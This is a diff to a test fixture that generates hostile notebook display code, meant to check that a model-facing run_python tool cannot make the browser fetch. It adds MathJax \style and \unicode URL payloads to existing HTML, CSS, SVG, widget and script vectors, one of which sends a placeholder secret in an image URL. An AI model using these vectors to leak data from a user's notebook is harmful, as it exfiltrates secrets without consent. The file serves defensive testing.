@@ -2,7 +2,7 @@
 
 Owns `hostile_display_code` (Python that displays every vector a kernel output can use to make
 the browser fetch — HTML, Markdown, SVG, JavaScript, IFrame, a plotly-style script, vega-lite
-and plotly payloads, ipywidgets, an `update_display` — each at its own path of a counting
+and plotly payloads, ipywidgets, an `update_display`, math with CSS `url()`s — each at its own path of a counting
 server, plus a pandas table and a matplotlib PNG that must still arrive) and `DISPLAY_PATHS`.
 Used by tests/test_run_python_no_fetch.py (real kernel) and tests/test_browser_run_python_no_fetch.py
 (real JupyterLab), where the same code in a user's own cell is the control.
@@ -27,6 +27,11 @@ DISPLAY_PATHS = (
 )
 
 
+# Math that JupyterLab's MathJax typesets from run_python's text/latex and HTML text (kept):
+# MathJax must load nothing for it, in a user's cell too.
+MATH_PATHS = ("/math-html-style", "/math-latex-style", "/math-unicode-font")
+
+
 def hostile_display_code(base: str) -> str:
     """Code a model could run with run_python: every display vector aimed at `base`."""
     return f"""\
@@ -35,7 +40,7 @@ import matplotlib
 matplotlib.use("module://matplotlib_inline.backend_inline")
 import matplotlib.pyplot as plt
 import pandas as pd
-from IPython.display import HTML, SVG, IFrame, Javascript, Markdown, display
+from IPython.display import HTML, SVG, IFrame, Javascript, Latex, Markdown, display
 
 display(HTML('<p>report</p><img src="{base}/html-img?secret=s3cr3t-value">'))
 display(HTML('<div style="background-image:url({base}/css-url)">styled</div>'))
@@ -50,6 +55,8 @@ display({{"application/vnd.plotly.v1+json": {{"data": [], "layout": {{"images": 
           "text/plain": "Figure()"}}, raw=True)
 display(ipywidgets.HTML('<img src="{base}/widget-html">'))
 display(ipywidgets.Image(value=b"{base}/widget-image", format="url"))
+display(HTML(r'<p>$\\style{{background-image:url({base}/math-html-style)}}{{x}}$</p>'))
+display(Latex(r'$\\style{{background-image:url({base}/math-latex-style)}}{{y}} \\unicode[{base}/math-unicode-font]{{x41}}$'))
 handle = display(HTML("<p>waiting</p>"), display_id=True)
 handle.update(HTML('<img src="{base}/update-img">'))
 display(pd.DataFrame({{"region": ["North", "South"], "units": [120, 45]}}))
